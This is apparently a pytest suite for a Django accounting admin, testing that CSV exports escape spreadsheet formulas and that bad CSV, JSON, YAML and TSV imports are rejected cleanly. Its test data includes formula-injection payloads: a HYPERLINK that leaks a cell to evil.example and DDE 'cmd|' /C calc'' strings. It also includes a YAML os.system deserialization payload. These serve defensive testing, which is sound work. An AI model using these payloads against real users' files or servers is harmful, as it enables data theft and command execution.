"""CSV files out are safe to open in a spreadsheet; CSV files in with the wrong columns, bad
rows or control characters are refused with a message, never a traceback, importing nothing."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from accounting import models as am
from accounting.admin import IMPORT_FILE_GONE
from accounting.resources import COLUMNS_DO_NOT_MATCH, FIRST_BAD_ROW
from config.spreadsheet import escape_formula, unescape_formula
from config.validators import CONTROL_CHARACTER
from tests import factories as f

FORMULAE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


@pytest.fixture
def as_admin(admin_user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    return client


def format_choice(form, label="csv") -> str:
    return str(next(value for value, name in form.fields["format"].choices if name == label))


def export_csv(client, model: str) -> list[dict]:
    url = reverse(f"admin:accounting_{model}_export")
    form = client.get(url).context["form"]
    fields = {name: "on" for name in form.fields if name.startswith(f"{model}resource_")}
    response = client.post(url, {"format": format_choice(form), "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def upload(client, model: str, text: str | bytes, label="csv"):
    url = reverse(f"admin:accounting_{model}_import")
    form = client.get(url).context["form"]
    content = text.encode() if isinstance(text, str) else text
    return client.post(
        url,
        {
            "resource": "0",
            "format": format_choice(form, label),
            "import_file": SimpleUploadedFile(f"{model}.{label}", content),
        },
    )


def assert_no_traceback(page: str) -> None:
    assert "Traceback" not in page and 'File "/' not in page and ".py" not in page


# --- files out --------------------------------------------------------------------------------


def test_a_customer_named_like_a_formula_goes_out_as_text_and_comes_back_unchanged(as_admin):
    for name in FORMULAE:
        f.CustomerFactory(name=name, city="-150.00")

    rows = export_csv(as_admin, "customer")

    assert sorted(row["name"] for row in rows) == sorted(f"'{name}" for name in FORMULAE)
    assert {row["city"] for row in rows} == {"-150.00"}  # a number stays a number
    am.Customer.objects.all().delete()
    exported = io.StringIO()
    writer = csv.DictWriter(exported, fieldnames=["name", "city"], extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    preview = upload(as_admin, "customer", exported.getvalue())
    confirm = preview.context["confirm_form"]
    as_admin.post(
        reverse("admin:accounting_customer_process_import"), {**confirm.initial, "resource": "0"}
    )
    assert sorted(am.Customer.objects.values_list("name", flat=True)) == sorted(FORMULAE)


def test_only_cells_a_spreadsheet_would_compute_are_escaped():
    assert [escape_formula(v) for v in ("=1", "+1 555 0100", "@x", "-x", "\rx")] == [
        "'=1",
        "'+1 555 0100",
        "'@x",
        "'-x",
        "'\rx",
    ]
    assert [escape_formula(v) for v in ("-150.00", "+42", "Acme = good", "", 12)] == [
        "-150.00",
        "+42",
        "Acme = good",
        "",
        12,
    ]
    assert unescape_formula("'=1") == "=1" and unescape_formula("'quoted'") == "'quoted'"


# --- files in ---------------------------------------------------------------------------------


def test_a_file_with_other_columns_names_them_and_imports_nothing(as_admin):
    page = upload(as_admin, "load", "number,amount,customer\nL-1,100,Acme\n")

    text = page.content.decode()
    assert page.status_code == 200
    problems = (
        "missing load_number, kind, item_code, description, invoice_as_subsidiary; "
        "unknown number, amount"
    )
    assert escape(COLUMNS_DO_NOT_MATCH.split("{problems}")[0]) in text
    assert problems in text
    assert "Line number" not in text  # no row was read
    assert "Confirm import" not in text
    assert_no_traceback(text)
    assert not am.Load.objects.exists()


def test_the_preview_names_the_first_bad_row_and_how_many_fail(as_admin):
    f.CustomerFactory(name="Acme")
    text = (
        "name,email\n"
        "Harbor Imports,ap@harbor.example\n"
        "Bell\x07 Freight,ap@bell.example\n"
        f"{'x' * 300},long@example.com\n"
    )

    page = upload(as_admin, "customer", text)

    body = page.content.decode()
    bell = CONTROL_CHARACTER.format(field="Column name", code="U+0007")
    summary = FIRST_BAD_ROW.format(count=2, total=3, line=2, problem=bell)
    assert escape(summary) in body
    assert "Confirm import" not in body
    assert_no_traceback(body)
    assert list(am.Customer.objects.values_list("name", flat=True)) == ["Acme"]


@pytest.mark.parametrize(
    ("label", "content"),
    [
        ("csv", b"\xef\xbb\xbfname\r\n=1+1\r\n\x00\x00"),
        ("json", b'[{"name": {"nested": ["x"]}}, 7]'),
        ("json", b'{"not": "a list"}'),
        ("yaml", b"- !!python/object/apply:os.system ['true']\n"),
        ("tsv", b"name\tcity\nA\tB\tC\tD\n"),
    ],
)
def test_malformed_files_in_every_format_are_a_message_not_a_500(as_admin, label, content):
    page = upload(as_admin, "customer", content, label)

    assert page.status_code == 200
    assert_no_traceback(page.content.decode())
    assert not am.Customer.objects.exists()


def test_confirming_a_file_that_is_gone_asks_for_it_again(as_admin):
    done = as_admin.post(
        reverse("admin:accounting_customer_process_import"),
        {
            "import_file_name": "tmp-no-such-file",
            "original_file_name": "c.csv",
            "format": "0",
            "resource": "0",
        },
        follow=True,
    )

    assert done.status_code == 200
    assert escape(IMPORT_FILE_GONE) in done.content.decode()
    assert done.redirect_chain[-1][0] == reverse("admin:accounting_customer_import")
